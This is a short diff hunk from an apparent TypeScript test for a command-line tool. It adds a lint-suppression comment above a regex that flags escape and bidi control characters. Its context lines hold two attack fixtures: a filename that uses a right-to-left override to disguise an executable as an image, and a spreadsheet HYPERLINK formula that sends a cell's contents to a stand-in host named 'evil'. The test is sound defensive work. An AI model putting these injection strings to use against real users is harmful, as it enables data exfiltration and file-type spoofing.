@@ -27,6 +27,7 @@ const BIDI = 'gpj.\u202eexe'
 const FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
 
 /** What must never come out of the CLI raw: ESC, C1 CSI, and the bidi controls. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this test looks for
 const FORBIDDEN = /[\x1b\u009b\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/u
 
 const COMMANDS: string[][] = [
